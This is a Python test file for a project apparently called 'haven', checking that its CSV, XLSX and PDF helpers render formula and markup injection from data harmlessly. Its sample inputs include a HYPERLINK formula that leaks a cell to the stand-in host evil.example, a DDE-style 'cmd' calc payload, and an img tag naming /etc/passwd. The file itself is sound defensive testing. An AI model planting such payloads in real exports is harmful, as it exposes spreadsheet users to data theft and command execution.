"""Text from data reaches spreadsheets and PDFs as text, never as formulas or markup."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import SimpleDocTemplate

from haven.core.pdf import paragraph
from haven.core.spreadsheet import CONTROL_CHARACTERS, csv_writer, safe_cell, unquote_cell, xlsx_row

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
    " =1+1",
    "  +cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\u3000@SUM(A1)",
    "\n=1+1",
    ' "=1+1',
    "' -2+3",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [42, -5, 0, 2.5, Decimal("1.50"), datetime.date(2026, 1, 2), None, "", "Downtown", "<11"],
)
def test_figures_and_ordinary_text_pass_unchanged(value):
    assert safe_cell(value) == value


def test_control_characters_are_dropped_and_emoji_and_accents_stay():
    assert safe_cell("Cl\x00ínica\x07 🙂\x1f") == "Clínica 🙂"
    assert safe_cell("\x00=1+1") == "'=1+1"
    assert safe_cell("two\nlines\tand tab") == "two\nlines\tand tab"


@given(st.text())
def test_what_safe_cell_writes_reads_back_as_the_text_without_control_characters(text):
    assert unquote_cell(safe_cell(text)) == CONTROL_CHARACTERS.sub("", text)


def test_csv_writer_quotes_every_formula_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["name", "count"], ["=1+1", 3], ["@cmd", -2]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "count"], ["'=1+1", "3"], ["'@cmd", "-2"]]


def test_xlsx_row_never_writes_a_formula_and_keeps_numbers():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_row(sheet, ["=1+1", 7, "plain 🙂", "bell\x07"])
    xlsx_row(sheet, [])
    xlsx_row(sheet, ["-2", -2])
    out = io.BytesIO()
    workbook.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["'=1+1", 7, "plain 🙂", "bell"],
        [None, None, None, None],
        ["'-2", -2, None, None],
    ]


def pdf_of(*texts):
    out = io.BytesIO()
    styles = getSampleStyleSheet()
    SimpleDocTemplate(out).build([paragraph(text, styles["Normal"]) for text in texts])
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(out.getvalue())).pages)


def test_a_paragraph_prints_markup_from_data_literally():
    text = pdf_of('<img src="/etc/passwd"/>', "<b", 'Tom & Jerry\'s "place"', "=cmd", "a\x00b")
    assert '<img src="/etc/passwd"/>' in text
    assert "<b" in text
    assert 'Tom & Jerry\'s "place"' in text
    assert "=cmd" in text
    assert "ab" in text


def test_a_paragraph_takes_emoji_and_unclosed_tags_without_failing():
    text = pdf_of("Clínica 🙂 </para> <font", "<br/>")
    assert "Clínica" in text
    assert "</para> <font" in text
    assert "<br/>" in text


def test_every_document_is_made_through_the_safe_helpers():
    """A sweep of the code: Paragraphs, CSV writers and sheet rows only through the helpers."""
    import re
    from pathlib import Path

    import haven

    direct = re.compile(
        r"\bParagraph\(|\bcsv\.(writer|DictWriter)\(|\b(sheet|ws|worksheet)\.(append|cell)\([^)]*value"
        r"|\b(sheet|ws|worksheet)\.append\("
    )
    helpers = {Path("core/pdf.py"), Path("core/spreadsheet.py")}
    root = Path(haven.__file__).parent
    offenders = [
        f"{path.relative_to(root)}:{number}: {line.strip()}"
        for path in root.rglob("*.py")
        if "tests" not in path.parts and path.relative_to(root) not in helpers
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if direct.search(line)
    ]
    assert offenders == []


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_a_spreadsheet_reading_another_separator_finds_no_formula_inside_a_cell(separator):
    """A spreadsheet set to a semicolon (Excel in Spanish) or a tab cuts a bare cell at it:
    the attacker hides the formula after the separator, where safe_cell() does not look."""
    hostile = [
        f'Downtown{separator}=HYPERLINK("http://evil.example/?"&A1)',
        f"Downtown{separator} @SUM(A1)",
        f'Lot 7"{separator}=1+1',
        f"a{separator}'+cmd",
    ]
    out = io.StringIO()
    csv_writer(out).writerows([[text, 3] for text in hostile])
    cells = [
        cell for row in csv.reader(io.StringIO(out.getvalue()), delimiter=separator) for cell in row
    ]
    assert cells, "nothing was read back"
    formulas = [cell for cell in cells if safe_cell(cell) != cell and not cell.startswith("'")]
    assert formulas == []
    # Read with the comma it was written with, every cell is the text it was.
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [[text, "3"] for text in hostile]
